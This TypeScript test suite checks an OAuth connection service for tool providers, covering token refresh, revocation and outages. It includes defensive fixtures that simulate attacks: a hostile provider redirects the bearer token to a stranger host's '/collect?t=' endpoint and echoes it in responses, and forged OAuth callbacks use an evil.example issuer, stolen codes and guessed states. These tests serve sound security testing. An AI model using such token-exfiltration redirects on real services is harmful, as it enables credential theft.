import { startReplica, dyingAt, type Replica } from '../tools/calls/replica.ts'
import type { TestPerson } from '../harness/service.ts'
import type { ReceivedRequest } from '../harness/stranger.ts'
import { importRequest } from '../tools/calls/world.ts'
import { mcpStranger } from '../tools/mcp-stranger.ts'
import { Upstream } from '../tools/calls/upstream.ts'
import { endsAllGrants, isSameProject } from '../../service/connections/rules.ts'
import { connectionWorld, json, type ConnectionWorld } from './world.ts'
import { sealedPlaces } from '../vault/opens.ts'

const VAULT_KEY = `test:${Buffer.from('0123456789abcdefghijklmnopqrstuv').toString('base64')}`

interface StartedAuthorization {
  authorizationUrl: string
}

/** Tools act in their caller's own account. */
describe('connections to providers of tools', () => {
  let world: ConnectionWorld
  let replicas: Replica[] = []
  beforeAll(async () => {
    world = await connectionWorld({ VAULT_KEY, RATE_API_PER_MINUTE: '0' })
  })
  beforeEach(() => {
    world.company.onCall = null
    world.company.next.length = 0
    world.company.isDown = false
    world.company.lifeSeconds = 3_600
  })
  afterEach(async () => {
    await Promise.all(replicas.map((replica) => replica.abandon()))
    replicas = []
  })
  afterAll(() => world.close())

  const free = { credits: 5, balance: 0, available: 0, locks: 0 }
  const sweep = () => world.service.connections.sweep(world.service.clock.now(), new AbortController().signal)
  const tokenCalls = () => world.company.to('/token').length
  const renewalsWith = (refreshToken: string) => () =>
    world.company.to('/token').filter(({ body }) => new URLSearchParams(body).get('refresh_token') === refreshToken)
      .length
  const start = async (
    person: { call: ConnectionWorld['service']['call'] },
    body: object = {},
  ): Promise<StartedAuthorization> =>
    (await person.call('POST', '/v1/connections/authorize', { body: { provider: 'notes', ...body } }))
      .body as StartedAuthorization

  async function replica(failpoint: string) {
    const { failpoints, reached } = dyingAt(failpoint)
    const started = await startReplica(world.service, { VAULT_KEY }, failpoints)
    replicas.push(started)
    return { ...started, reached }
  }

  test('are listed as needed per tool, and the operator’s key is used for public data only', async () => {
    const { body } = await world.service.call('GET', '/tools?provider=notes&limit=100')
    const tools = body.tools as Record<'slug' | 'needs', string>[]
    expect(Object.fromEntries(tools.map(({ slug, needs }) => [slug, needs]))).toEqual({
      'notes-both': 'connection',
      'notes-get-me': 'connection',
      'notes-get-news': 'platform',
      'notes-get-open': 'nothing',
      'notes-maybe': 'nothing',
      'notes-write': 'connection',
    })
    const person = await world.caller()
    world.company.onCall = ({ headers, query }, response) =>
      json(response, {
        key: headers['x-key'] !== undefined,
        app: query.has('app'),
        token: headers.authorization ?? null,
      })
    expect((await world.call(person, 'notes-get-news')).body.output).toEqual({ key: true, app: false, token: null })
    // What may change something never carries it, also where it is optional.
    expect((await world.call(person, 'notes-maybe')).body.output).toEqual({ key: false, app: false, token: null })

    const providerRef = { environment: 'sandbox', ownerId: null, provider: 'notes' } as const
    await world.service.catalogue.setPublic(providerRef, true)
    expect((await world.service.call('GET', '/tools/notes-write')).body.tool.needs).toBe('platform')
    expect((await world.call(person, 'notes-write')).status).toBe(200)
    await world.service.catalogue.setPublic(providerRef, false)
  })

  test('act as their own caller for each call; without one the call is refused free of charge', async () => {
    const none = await world.caller()
    const refused = await world.call(none, 'notes-write', {}, { 'idempotency-key': 'later' })
    expect(refused.status).toBe(409)
    expect(refused.body).toMatchObject({ code: 'connection_required', provider: 'notes' })
    expect(refused.body.connectUrl).toMatch(/\/connections\?connect=notes&scopes=notes$/)
    expect(refused.body.error).toContain(refused.body.connectUrl)
    expect(await world.left(none)).toEqual(free)
    expect((await world.service.call('POST', '/tools/pay/notes-write', { body: {} })).body.code).toBe(
      'connection_required',
    )

    const [ada, ben] = [await world.connected('ada'), await world.connected('ben')]
    const answers = await Promise.all([ada, ben, ada, ben].map((person) => world.call(person, 'notes-write')))
    expect(answers.map(({ body }): unknown => body.output.who)).toEqual(['ada', 'ben', 'ada', 'ben'])
    expect((await world.call(none, 'notes-write')).status).toBe(409)
    // No answer has a secret, and another account's connection does not exist.
    const shown = await ada.call('GET', `/v1/connections/${ada.connectionId}`)
    expect(shown.body.connection).toMatchObject({ state: 'active', kind: 'oauth', default: true, scopes: ['notes'] })
    expect(shown.text).not.toMatch(/access-|refresh-/)
    for (const [method, rest] of [
      ['GET', ''],
      ['PATCH', ''],
      ['DELETE', ''],
      ['POST', '/test'],
    ] as const) {
      const path = `/v1/connections/${ada.connectionId}${rest}`
      expect((await ben.call(method, path, method === 'PATCH' ? { body: { name: 'Mine' } } : {})).status).toBe(404)
    }
    // Repeated with its key once connected.
    const begun = await start(none)
    await world.service.connections.finish(none.caller, world.company.allow(begun.authorizationUrl, 'cem'))
    expect((await world.call(none, 'notes-write', {}, { 'idempotency-key': 'later' })).body.output).toEqual({
      who: 'cem',
    })
  })

  test("request the tool's scopes in addition to the existing ones", async () => {
    const person = await world.connected('abe')
    await world.service.database.statements.run(
      "UPDATE connection SET state = 'expired', scopes = '{old,notes}' WHERE id = $1",
      [person.connectionId],
    )
    const { body } = await world.call(person, 'notes-write')
    const scopes = new URL(String(body.connectUrl)).searchParams.get('scopes')!.split(' ')
    expect(scopes).toEqual(['old', 'notes'])
    const begun = await start(person, { connectionId: person.connectionId, scopes: ['more'] })
    const scope = new URL(begun.authorizationUrl).searchParams.get('scope')!
    expect(scope.split(' ').sort()).toEqual(['more', 'notes', 'old'])
  })

  test('are connected again at their own provider, also where the account has imported another one of its name', async () => {
    const person = await world.connected('eve')
    const operation = { operationId: 'read', summary: 'Reads', responses: { 200: { description: 'Read' } } }
    const own = { openapi: '3.1.0', info: { title: 'Own', version: '1' }, paths: { '/read': { get: operation } } }
    const request = importRequest(world.company.origin, { slug: 'notes', ownerId: person.caller.user.id })
    await world.service.catalogue.importDocument(request, JSON.stringify(own))
    const begun = await start(person, { connectionId: person.connectionId })
    expect(new URL(begun.authorizationUrl).origin).toBe(world.company.origin)
    await world.service.connections.finish(person.caller, world.company.allow(begun.authorizationUrl, 'eve'))
    expect(await world.connections(person)).toMatchObject([{ id: person.connectionId, state: 'active' }])
  })

  test('release a waiting call once the person has connected', async () => {
    const person = await world.caller()
    const begun = await start(person)
    const waiting = world.call(person, 'notes-write', {}, { prefer: 'wait=60' })
    await world.service.connections.finish(person.caller, world.company.allow(begun.authorizationUrl, 'dora'))
    expect((await waiting).body.output).toEqual({ who: 'dora' })
  })

  test('renew an expired token once for 64 concurrent calls in two processes', async () => {
    const person = await world.connected('eve')
    const other = await replica('nothing')
    world.service.clock.forward(3_700_000)
    const before = tokenCalls()
    const calls = Array.from({ length: 64 }, async (_, index) => {
      if (index % 2 === 0) return await world.call(person, 'notes-write')
      const headers = { authorization: `Bearer ${person.key}`, 'content-type': 'application/json' }
      const answer = await fetch(`${other.origin}/tools/notes-write`, { method: 'POST', headers, body: '{}' })
      return { body: (await answer.json()) as { output: unknown } }
    })
    const answers = await Promise.all(calls)
    expect(answers.map(({ body }): unknown => body.output)).toEqual(Array(64).fill({ who: 'eve' }))
    expect(tokenCalls()).toBe(before + 1)
  })

  test.each([
    ['before the request', 'connection refreshing', 'active'],
    ['before the answer is stored', 'connection refreshed', 'expired'],
  ])('of a process that died %s are renewed after its lease, or have ended', async (_when, failpoint, state) => {
    const person = await world.connected('fay')
    const dying = await replica(failpoint)
    world.service.clock.forward(3_700_000)
    const headers = { authorization: `Bearer ${person.key}`, 'content-type': 'application/json' }
    const lost = fetch(`${dying.origin}/tools/notes-write`, { method: 'POST', headers, body: '{}' }).catch(() => null)
    await dying.reached
    await sweep()
    expect(await world.connections(person)).toMatchObject([{ state: 'refreshing' }])
    // Its lease ends. The company has replaced the refresh token in the second case.
    world.service.clock.forward(61_000)
    await sweep()
    expect(await world.connections(person)).toMatchObject([{ state }])
    await dying.abandon()
    replicas = []
    await lost
    const call = await world.call(person, 'notes-write')
    if (state === 'active') expect(call.body.output).toEqual({ who: 'fay' })
    else {
      expect(call.body).toMatchObject({ code: 'connection_required', provider: 'notes' })
      expect(call.body.error).toContain('no longer accepts')
      // Connecting again mends the same connection.
      const again = new URL(String(call.body.connectUrl)).searchParams
      expect([again.get('again'), again.get('scopes')]).toEqual([person.connectionId, 'notes'])
      const begun = await start(person, { connectionId: person.connectionId })
      await world.service.connections.finish(person.caller, world.company.allow(begun.authorizationUrl, 'fay'))
      expect(await world.connections(person)).toMatchObject([{ id: person.connectionId, state: 'active' }])
      expect((await world.call(person, 'notes-write')).body.output).toEqual({ who: 'fay' })
    }
  })

  test('wait through an outage of the authorization server, and end after days', async () => {
    const person = await world.connected('gus')
    const { clock } = world.service
    const renewals = renewalsWith(world.company.lastRefresh)
    world.company.isDown = true
    clock.forward(3_700_000)
    const refused = await world.call(person, 'notes-write')
    expect([refused.status, refused.body.code]).toEqual([502, 'upstream_error'])
    await Promise.all(Array.from({ length: 30 }, () => world.call(person, 'notes-write')))
    expect(renewals()).toBe(1)
    expect(await world.left(person)).toEqual(free)
    // More than a day of calls and sweeps.
    for (let hour = 0; hour < 30; hour++) {
      clock.forward(3_600_000)
      await sweep()
      await Promise.all([1, 2, 3].map(() => world.call(person, 'notes-write')))
    }
    expect(renewals()).toBe(31)
    expect(await world.connections(person)).toMatchObject([{ state: 'active', failure: expect.any(String) }])
    world.company.isDown = false
    expect((await world.call(person, 'notes-write')).body.code).toBe('upstream_error')
    clock.forward(300_000)
    expect((await world.call(person, 'notes-write')).body.output).toEqual({ who: 'gus' })
    await world.noted(person, false)

    // An outage that lasts is counted anew, and is given up after three days.
    world.company.isDown = true
    const sweeps = async (hours: number) => {
      for (let hour = 0; hour < hours; hour++) {
        clock.forward(3_600_000)
        await sweep()
      }
      return (await world.connections(person))[0]!['state']
    }
    // The first of these begins it.
    expect([await sweeps(72), await sweeps(1)]).toEqual(['active', 'expired'])
  })

  test('end at once when the grant is refused, and a 401 in an outage hastens no retry', async () => {
    const [person, other] = [await world.connected('mia'), await world.connected('noa')]
    const renewals = renewalsWith(world.company.lastRefresh)
    world.company.isDown = true
    world.service.clock.forward(3_550_000)
    await sweep()
    world.company.revokeAll()
    // The old token is still sent, and refused.
    await world.call(other, 'notes-write')
    await sweep()
    expect(renewals()).toBe(1)
    world.company.isDown = false
    world.service.clock.forward(10_000)
    await sweep()
    expect(await world.connections(person)).toMatchObject([{ state: 'expired' }])
    expect(await world.connections(other)).toMatchObject([{ state: 'expired' }])
  })

  test('have an end for any lifetime of the token, and are not renewed all the time', async () => {
    const { clock } = world.service
    const endOf = async (lifeSeconds: number | string) => {
      world.company.lifeSeconds = lifeSeconds
      const person = await world.connected('lea')
      const [{ expiresAt }] = (await world.connections(person)) as [{ expiresAt: string }]
      return { person, seconds: Math.round((new Date(expiresAt).getTime() - clock.now().getTime()) / 1_000) }
    }
    expect((await endOf(30_000_000_000)).seconds).toBe(315_000_000)
    expect((await endOf(90)).seconds).toBe(90)
    const { person, seconds } = await endOf(0)
    expect(seconds).toBe(60)
    const before = tokenCalls()
    for (let count = 0; count < 5; count++) await sweep()
    expect((await world.call(person, 'notes-write')).body.output).toEqual({ who: 'lea' })
    expect(tokenCalls()).toBe(before)
    clock.forward(59_000)
    expect((await world.call(person, 'notes-write')).body.output).toEqual({ who: 'lea' })
    expect(tokenCalls()).toBe(before + 1)
    for (const wrong of [-1, 'soon']) await expect(endOf(wrong)).rejects.toThrow('a life that no token can have')
  })

  test("renew in turns, so an account with many slow ones does not delay another's", async () => {
    const [busy, calm] = [await world.connected('ora'), await world.caller()]
    for (let count = 0; count < 24; count++) {
      const { authorizationUrl } = await start(busy)
      await world.service.connections.finish(busy.caller, world.company.allow(authorizationUrl, 'ora'))
    }
    const { authorizationUrl } = await start(calm)
    await world.service.connections.finish(calm.caller, world.company.allow(authorizationUrl, 'pia'))
    // All of the busy account's are due before the calm one's.
    world.service.clock.forward(3_580_000)
    const order: string[] = []
    const held: (() => void)[] = []
    const answer = world.company.next
    for (let count = 0; count < 60; count++) {
      answer.push((request, response) => {
        const who = world.company.userOf(request)
        order.push(who)
        if (who === 'ora') held.push(() => world.company.issue(request, response))
        else world.company.issue(request, response)
      })
    }
    const sweeping = sweep()
    await world.company.renewed('pia')
    expect(order.filter((who) => who === 'ora').length).toBeLessThanOrEqual(2)
    answer.length = 0
    while (held.length > 0) held.shift()!()
    await sweeping
    // A share in each sweep, so that all have their turn.
    for (let count = 0; count < 3; count++) await sweep()
    const ends = (await world.connections(busy)).map(({ expiresAt }) => new Date(String(expiresAt)).getTime())
    expect(Math.min(...ends)).toBeGreaterThan(world.service.clock.now().getTime() + 3_000_000)
  })

  test('revoke tokens issued after the connection was removed', async () => {
    const person = await world.caller()
    const { connections } = world.service
    const begun = await start(person)
    const [{ id }] = (await world.connections(person)) as [{ id: string }]
    world.company.next.push((request, response) => {
      void person.call('DELETE', `/v1/connections/${id}`).then(() => world.company.issue(request, response))
    })
    await expect(
      connections.finish(person.caller, world.company.allow(begun.authorizationUrl, 'quin')),
    ).rejects.toThrow('no such connection')
    const issued = world.company.lastRefresh
    expect(await world.connections(person)).toEqual([])
    await sweep()
    expect(world.company.revoked).toContain(issued)

    // The row outlives an exchange that begins in the last moment before the request is over.
    const late = await start(person)
    world.service.clock.forward(15 * 60_000 - 1_000)
    world.company.next.push((request, response) => {
      world.service.clock.forward(10_000)
      void sweep().then(() => world.company.issue(request, response))
    })
    const { state } = await connections.finish(person.caller, world.company.allow(late.authorizationUrl, 'quin'))
    expect(state).toBe('active')
  })

  test('revoke the previous grant when connected again, also after a failure, and keep the new one', async () => {
    const person = await world.connected('ruth')
    const old = world.company.lastRefresh
    const again = async () => {
      const begun = await start(person, { connectionId: person.connectionId })
      await world.service.connections.finish(person.caller, world.company.allow(begun.authorizationUrl, 'ruth'))
    }
    await again()
    const [lastRefresh, revoked] = [world.company.lastRefresh, world.company.revoked]
    expect([await world.connections(person), revoked.includes(old)]).toMatchObject([
      [{ id: person.connectionId, state: 'active' }],
      false,
    ])
    world.company.metadataAt.set('/revoke', (response) => {
      json(response, { error: 'temporarily_unavailable' }, 503)
    })
    await sweep()
    world.company.metadataAt.delete('/revoke')
    await sweep()
    expect(revoked).not.toContain(old)
    world.service.clock.forward(31_000)
    await sweep()
    expect([revoked.includes(old), revoked.includes(lastRefresh)]).toEqual([true, false])
    expect((await world.call(person, 'notes-write')).body.output).toEqual({ who: 'ruth' })
    const secrets = () =>
      world.service.database.statements.run<{ state: string }>(
        'SELECT state FROM connection WHERE user_id = $1 AND secret IS NOT NULL',
        [person.caller.user.id],
      )
    expect(await secrets()).toEqual([{ state: 'active' }])

    // A server that never takes it back is left alone after a day.
    await again()
    world.company.metadataAt.set('/revoke', (response) => {
      json(response, { error: 'temporarily_unavailable' }, 503)
    })
    for (let attempt = 0; attempt <= 20; attempt++) {
      await sweep()
      world.service.clock.forward(3_600_000)
    }
    world.company.metadataAt.delete('/revoke')
    expect(await secrets()).toEqual([{ state: 'active' }])
  })

  test('revoke nothing where it would end the new grant: same tokens, or one grant for all', async () => {
    const person = await world.connected('sol')
    const begun = await start(person, { connectionId: person.connectionId })
    const before = world.company.revoked.length
    const [same, who] = [world.company.lastRefresh, 'sol']
    world.company.next.push((_, response) => {
      const token = { access_token: 'another-access-token', token_type: 'Bearer', expires_in: 3_600 }
      world.company.access.set(token.access_token, who)
      json(response, { ...token, refresh_token: same })
    })
    await world.service.connections.finish(person.caller, world.company.allow(begun.authorizationUrl, who))
    await sweep()
    expect([world.company.revoked.length, (await world.call(person, 'notes-write')).status]).toEqual([before, 200])
    const server = (revocationUrl: string | null) => endsAllGrants({ revocationUrl })
    expect([server('https://oauth2.googleapis.com/revoke'), server('https://a.example/r'), server(null)]).toEqual([
      ...[true, false, false],
    ])
  })

  test('revoke a shared grant only when the last connection of its account is removed', async () => {
    const providerRef = { environment: 'sandbox', ownerId: null, provider: 'notes' } as const
    const { catalogue } = world.service
    const { client } = (await catalogue.connectable('sandbox', null, 'notes'))!
    const person = await world.connected('uma')
    const begun = await start(person, { name: 'second' })
    const second = await world.service.connections.finish(
      person.caller,
      world.company.allow(begun.authorizationUrl, 'uma'),
    )
    const revoked = world.company.revoked.length
    const oneGrant = { ...client!, revocationUrl: 'https://oauth2.googleapis.com/revoke' }
    await catalogue.setOAuth(providerRef, oneGrant, 'client-secret')
    await person.call('DELETE', `/v1/connections/${person.connectionId}`)
    await sweep()
    await catalogue.setOAuth(providerRef, client, 'client-secret')
    const [row] = await world.service.database.statements.run<{ secret: string | null; due_at: Date | null }>(
      'SELECT secret, due_at FROM connection WHERE id = $1',
      [person.connectionId],
    )
    // Forgotten here, and not revoked there.
    expect([row, world.company.revoked.length]).toEqual([{ secret: null, due_at: null }, revoked])
    expect((await world.call(person, 'notes-write')).body.output).toEqual({ who: 'uma' })
    await person.call('DELETE', `/v1/connections/${second.id}`)
    await sweep()
    expect(world.company.revoked.length).toBe(revoked + 1)
  })

  test.each([
    ['123-abc.apps.googleusercontent.com', '123-def.apps.googleusercontent.com', true],
    ['123-abc.apps.googleusercontent.com', '124-abc.apps.googleusercontent.com', false],
    ['123-abc', '123-def', false],
    ['coinslot', 'coinslot', true],
  ])('the clients %s and %s are of one project: %s', (one, other, expected) => {
    expect(isSameProject(one, other)).toBe(expected)
  })

  test('use the operator’s own addresses before those of a document', async () => {
    const providerRef = { environment: 'sandbox', ownerId: null, provider: 'notes' } as const
    const { catalogue } = world.service
    const before = (await catalogue.connectable('sandbox', null, 'notes'))!
    const own = { ...before.client!, issuer: null, authorizationUrl: 'https://own.example/authorize' }
    await catalogue.setOAuth(providerRef, own, 'client-secret')
    const { client } = (await catalogue.connectable('sandbox', null, 'notes'))!
    // The document names an address for tokens too, which the operator did not.
    expect(client).toMatchObject({ authorizationUrl: own.authorizationUrl, tokenUrl: 'https://a.example' })
    await catalogue.setOAuth(providerRef, before.client, 'client-secret')
  })

  test('expire with an event when access is revoked at the provider, and revoke it when removed here', async () => {
    const person = await world.connected('hal')
    const { body } = await person.call('POST', '/v1/webhook-endpoints', {
      body: { url: 'listen:here', events: ['connection.expired'] },
    })
    world.company.revokeAll()
    expect((await world.call(person, 'notes-write')).body.code).toBe('upstream_error')
    await world.noted(person, true)
    await sweep()
    expect(await world.connections(person)).toMatchObject([{ state: 'expired' }])
    const listed = await person.call('GET', `/v1/deliveries?endpointId=${String(body.webhookEndpoint.id)}`)
    expect(listed.body.total).toBe(1)

    const other = await world.connected('ida')
    expect((await other.call('DELETE', `/v1/connections/${other.connectionId}`)).status).toBe(204)
    expect((await world.call(other, 'notes-write')).body.code).toBe('connection_required')
    await sweep()
    expect(world.company.revoked.at(-1)).toMatch(/^refresh-/)
    const [row] = await world.service.database.statements.run<{ secret: string | null; due_at: Date | null }>(
      'SELECT secret, due_at FROM connection WHERE id = $1',
      [other.connectionId],
    )
    expect(row).toEqual({ secret: null, due_at: null })
    expect(await world.connections(other)).toEqual([])
  })

  test('to an MCP server end too when it refuses them, and one that it accepts again has no failure', async () => {
    const mcp = await mcpStranger([{ name: 'send', description: 'Send a note', inputSchema: { type: 'object' } }])
    const { catalogue, connections } = world.service
    await catalogue.importServer(importRequest('', { slug: 'words', name: 'Words', server: null }), mcp.url)
    const { client } = (await catalogue.connectable('sandbox', null, 'notes'))!
    await catalogue.setOAuth({ environment: 'sandbox', ownerId: null, provider: 'words' }, client, 'client-secret')
    const refusedCall = async (person: TestPerson) => {
      mcp.instead = (response) => response.writeHead(401).end('Who are you?')
      const { body } = await world.call(person, 'words-send')
      expect(body).toMatchObject({ code: 'upstream_error', upstream: { status: 401 } })
      await world.noted(person, true)
    }

    const keyed = await world.caller()
    const key = { provider: 'words', secret: 'a-key-of-mine' }
    expect((await keyed.call('POST', '/v1/connections', { body: key })).status).toBe(201)
    await refusedCall(keyed)
    expect((await world.call(keyed, 'words-send')).body.output).toBe('ok')
    await world.noted(keyed, false)

    const person = await world.caller()
    const begun = await start(person, { provider: 'words' })
    await connections.finish(person.caller, world.company.allow(begun.authorizationUrl, 'jan'))
    expect((await world.call(person, 'words-send')).body.output).toBe('ok')
    world.company.revokeAll()
    await refusedCall(person)
    await sweep()
    expect(await world.connections(person)).toMatchObject([{ state: 'expired' }])
    await mcp.close()
  })

  test('store nothing from a forged or foreign return or a wrong answer, and say why', async () => {
    const [person, thief] = [await world.caller(), await world.caller()]
    const { connections } = world.service
    const attempt = async (query: (url: string) => string, by = person) => {
      const { authorizationUrl } = await start(person)
      const fault = await connections.finish(by.caller, query(authorizationUrl)).then(
        () => null,
        (error: unknown) => (error as Error).message,
      )
      return fault
    }
    const { allow } = { allow: world.company.allow.bind(world.company) }
    expect(await attempt((url) => allow(url, 'x'), thief)).toContain('another account')
    expect(await attempt((url) => allow(url, 'x', { state: 'guessed' }))).toContain('unknown')
    expect(await attempt((url) => allow(url, 'x', { iss: 'https://evil.example' }))).toContain('another server')
    expect(await attempt((url) => allow(url, 'x').replace(/&iss=[^&]*/, ''))).toContain('another server')
    expect(await attempt((url) => allow(url, 'x', { error: 'access_denied' }))).toContain('not allowed there')
    expect(await attempt((url) => allow(url, 'x', { code: 'stolen' }))).toContain('refused the code')
    // The code was issued for another verifier.
    const other = await start(person)
    expect(
      await attempt((url) => {
        const back = new URLSearchParams(allow(other.authorizationUrl, 'x'))
        back.set('state', new URL(url).searchParams.get('state')!)
        return back.toString()
      }),
    ).toContain('refused the code')
    for (const [answer, sentence] of [
      [{ token_type: 'Bearer' }, 'without an access token'],
      [{ access_token: 'a b', token_type: 'Bearer' }, 'no request can hold'],
      [{ access_token: 'abc', token_type: 'mac' }, 'not OAuth 2'],
      ['<html>', 'not OAuth 2'],
    ] as const) {
      world.company.next.push((_request, response) => json(response, answer))
      expect(await attempt((url) => allow(url, 'x'))).toContain(sentence)
    }
    const [count] = await world.service.database.statements.run<{ count: bigint }>(
      `SELECT count(*) FROM connection WHERE user_id = $1 AND (secret IS NOT NULL OR state <> 'pending')`,
      [person.caller.user.id],
    )
    expect(Number(count!.count)).toBe(0)
    // Those that nobody finished are forgotten, and a state is good once.
    const last = await start(person)
    const query = allow(last.authorizationUrl, 'x')
    await connections.finish(person.caller, query)
    await expect(connections.finish(person.caller, query)).rejects.toThrow('unknown')
    await start(person)
    world.service.clock.forward(16 * 60_000)
    await sweep()
    expect(await world.connections(person)).toMatchObject([{ state: 'active' }])
  })

  test('a hostile provider gets the secret to no other host, answer, error or log', async () => {
    const stranger = await new Upstream().listen()
    stranger.respondWith('/collect', { got: true })
    const person = await world.connected('kim')
    const secretOf = ({ headers }: ReceivedRequest) => headers.authorization!.slice(7)
    let secret = ''
    const answers: string[] = []
    const call = async () => {
      const { text } = await world.call(person, 'notes-get-me')
      answers.push(text)
    }
    world.company.onCall = (request, response) => {
      secret = secretOf(request)
      response.writeHead(302, { location: `${stranger.url}/collect?t=${secret}` }).end()
    }
    await call()
    expect(stranger.requests).toEqual([])
    expect(answers[0]).toContain('redirect')
    for (const status of [200, 400, 500]) {
      world.company.onCall = (request, response) => {
        secret = secretOf(request)
        const base64 = Buffer.from(secret).toString('base64')
        response.writeHead(status, { 'content-type': 'application/json', 'x-echo': secret })
        response.end(
          JSON.stringify({ message: `you sent ${secret}`, [secret]: base64, url: encodeURIComponent(secret) }),
        )
      }
      await call()
    }
    world.company.onCall = (request, response) => {
      secret = secretOf(request)
      response.writeHead(200, { 'content-type': `text/plain; ${secret}` }).end(`Bearer ${secret}`)
    }
    await call()
    const { text } = await person.call('GET', '/v1/tool-calls')
    for (const exposed of [...answers, text, JSON.stringify(await world.connections(person))]) {
      expect(exposed).not.toContain(secret)
      expect(exposed).not.toContain(Buffer.from(secret).toString('base64'))
    }
    expect(answers.at(-1)).toContain('[secret]')

    // A later document moves the tool to another host: the connection is not for it.
    const moved = importRequest(stranger.url, { slug: 'notes', name: 'Notes' })
    const text2 = JSON.stringify({
      openapi: '3.1.0',
      info: { title: 'Notes', version: '2' },
      components: {
        securitySchemes: {
          account: { type: 'oauth2', flows: { clientCredentials: { tokenUrl: 'https://a.example', scopes: {} } } },
        },
      },
      paths: {
        '/me': {
          get: {
            operationId: 'getMe',
            security: [{ account: ['notes'] }],
            responses: { 200: { description: 'Done' } },
          },
        },
      },
    })
    await world.service.catalogue.importDocument(moved, text2)
    const refused = await world.call(person, 'notes-get-me')
    expect(refused.body.code).toBe('connection_required')
    expect(refused.body.error).toContain('host')
    expect(stranger.requests).toEqual([])
    await stranger.close()
  })

  test('seal their secrets where the list of sealed columns says', async () => {
    await world.connected('ada')
    await (await world.caller()).call('POST', '/v1/connections/authorize', { body: { provider: 'notes' } })
    expect(await sealedPlaces(world.service, VAULT_KEY)).toEqual(
      expect.arrayContaining([
        ...['connection.secret', 'connection.request'],
        ...['tool_provider.credentials', 'tool_provider.oauth_secret'],
      ]),
    )
  })
})
